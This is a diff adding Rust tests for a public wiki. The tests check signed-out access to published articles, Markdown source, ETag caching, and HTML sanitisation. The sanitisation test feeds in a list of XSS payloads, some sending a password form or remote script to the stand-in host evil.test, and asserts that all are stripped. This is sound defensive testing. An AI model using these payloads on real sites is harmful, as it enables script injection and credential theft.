@@ -1,0 +1,196 @@
+//! The public wiki: what readers who are not signed in see of it, and what never reaches their browsers.
+
+use frontdesk_tests::{Answer, Organization, run, world};
+use serde_json::json;
+
+use super::{Admin, stage};
+
+/// A page of an organisation's wiki: its status, its headers and its text.
+struct Page {
+    status: u16,
+    headers: reqwest::header::HeaderMap,
+    text: String,
+}
+
+impl Page {
+    async fn get(organization: &Organization, path: &str, accept: &str, known: &str) -> Page {
+        let url = format!(
+            "{}/learn/wiki{path}?organization={}",
+            world().url(),
+            organization.id
+        );
+        let request = reqwest::Client::new().get(url).header("accept", accept);
+        let answer = request
+            .header("if-none-match", known)
+            .send()
+            .await
+            .expect("an answer");
+        Page {
+            status: answer.status().as_u16(),
+            headers: answer.headers().clone(),
+            text: answer.text().await.expect("a text"),
+        }
+    }
+
+    async fn read(organization: &Organization, path: &str) -> Page {
+        Page::get(organization, path, "text/html", "").await
+    }
+
+    fn header(&self, name: &str) -> &str {
+        let value = self.headers.get(name);
+        value.and_then(|value| value.to_str().ok()).unwrap_or("")
+    }
+}
+
+async fn publish(author: &mut Admin, title: &str, content: &str, parent: Option<&str>) -> Answer {
+    let metadata = parent.map_or(json!({}), |slug| json!({ "parent_slug": slug }));
+    let article = json!({
+        "title": title, "content": content, "metadata": metadata, "status": "published",
+    });
+    let made = author.call("create_wiki_article", article).await;
+    made.output();
+    made
+}
+
+#[test]
+fn published_articles_are_read_without_signing_in_and_others_are_not() {
+    run(async {
+        let (organization, mut author) = stage().await;
+        publish(&mut author, "House <rules>", "Be *kind*.", None).await;
+        publish(
+            &mut author,
+            "Keys",
+            "See [the rules](house-rules).",
+            Some("house-rules"),
+        )
+        .await;
+        let draft = json!({ "title": "Salaries", "content": "Much", "metadata": { "parent_slug": "keys" } });
+        author.output("create_wiki_article", draft).await;
+
+        let titles = Page::read(&organization, "").await;
+        assert_eq!(titles.status, 200);
+        let id = organization.id;
+        let nested = format!(
+            "<ul><li><a href=\"wiki/house-rules?organization={id}\">House&#32;&lt;rules&gt;</a>\n\
+             <ul><li><a href=\"wiki/keys?organization={id}\">Keys</a>\n</ul></ul>"
+        );
+        assert!(titles.text.contains(&nested), "{}", titles.text);
+        assert!(!titles.text.contains("Salaries"), "{}", titles.text);
+
+        let article = Page::read(&organization, "/keys").await;
+        let link = format!("See <a href=\"house-rules?organization={id}\"");
+        assert!(article.text.contains(&link), "{}", article.text);
+        assert!(
+            article.text.contains("aria-current=\"page\">Keys</a>"),
+            "{}",
+            article.text
+        );
+        assert_eq!(Page::read(&organization, "/salaries").await.status, 404);
+        assert_eq!(
+            Page::read(&Organization::create().await, "/keys")
+                .await
+                .status,
+            404
+        );
+
+        let archive = json!({ "slug": "keys", "status": "archived" });
+        author.output("publish_wiki_article", archive).await;
+        assert_eq!(Page::read(&organization, "/keys").await.status, 404);
+    });
+}
+
+#[test]
+fn the_source_is_had_as_markdown_and_a_page_that_is_known_is_not_sent_again() {
+    run(async {
+        let (organization, mut author) = stage().await;
+        let content = "# Keys\n\n<b>Two</b> of them.\n";
+        publish(&mut author, "Keys", content, None).await;
+        let source = Page::get(&organization, "/keys", "text/markdown", "").await;
+        assert_eq!(
+            (source.header("content-type"), &*source.text),
+            ("text/markdown; charset=utf-8", content)
+        );
+        let titles = Page::get(&organization, "", "text/markdown", "").await;
+        assert!(
+            titles.text.contains("- [Keys](wiki/keys"),
+            "{}",
+            titles.text
+        );
+
+        let page = Page::read(&organization, "/keys").await;
+        assert_eq!(page.header("vary"), "accept");
+        assert!(page.header("cache-control").starts_with("public"));
+        let known = Page::get(&organization, "/keys", "text/html", page.header("etag")).await;
+        assert_eq!((known.status, &*known.text), (304, ""));
+        let change = json!({ "slug": "keys", "content": "Three." });
+        author.output("update_wiki_article", change).await;
+        let changed = Page::get(&organization, "/keys", "text/html", page.header("etag")).await;
+        assert_eq!(changed.status, 200);
+        assert!(changed.text.contains("<p>Three.</p>"), "{}", changed.text);
+    });
+}
+
+#[test]
+fn nothing_of_an_article_runs_in_a_browser() {
+    run(async {
+        let (organization, mut author) = stage().await;
+        let attacks = [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
+            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+            "<a href=\"javascript:alert(1)\">a</a>",
+            "[b](javascript:alert(1)) [c](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
+            "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+            "[e](vbscript:msgbox) ![f](javascript:alert(1))",
+            "<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>g</button></form>",
+            "<style>@import url(https://evil.test)</style><link rel=stylesheet href=https://evil.test>",
+            "<base href=https://evil.test/><meta http-equiv=refresh content=\"0;url=https://evil.test\">",
+            "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>h</p>",
+            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+            "[x]: javascript:alert(1)\n\n[i][x]",
+            "</main></html><script src=//evil.test></script>",
+        ];
+        publish(
+            &mut author,
+            "</title><script>alert(1)</script>",
+            &attacks.join("\n\n"),
+            None,
+        )
+        .await;
+        let page = Page::read(&organization, "/title-script-alert-1-script").await;
+        assert_eq!(page.status, 200);
+        let body = page.text.to_lowercase();
+        for tag in [
+            "<script", "<svg", "<iframe", "<form", "<input", "<button", "<link", "<base", "<math",
+        ] {
+            assert!(!body.contains(tag), "{tag}: {}", page.text);
+        }
+        // One style and two metas are the page's own.
+        assert_eq!(
+            (
+                body.matches("<style").count(),
+                body.matches("<meta").count()
+            ),
+            (1, 2),
+            "{}",
+            page.text
+        );
+        let document = body.split("</style>").nth(1).expect("a body");
+        for tag in document.split('<').filter_map(|tag| tag.split('>').next()) {
+            for word in [" on", "javascript:", "vbscript:", "data:", "style="] {
+                assert!(!tag.contains(word), "<{tag}>: {}", page.text);
+            }
+        }
+        let policy = page.header("content-security-policy");
+        assert!(
+            policy.starts_with("default-src 'none'; style-src 'sha256-"),
+            "{policy}"
+        );
+        assert!(
+            !policy.contains("script-src") && !policy.contains("unsafe"),
+            "{policy}"
+        );
+    });
+}
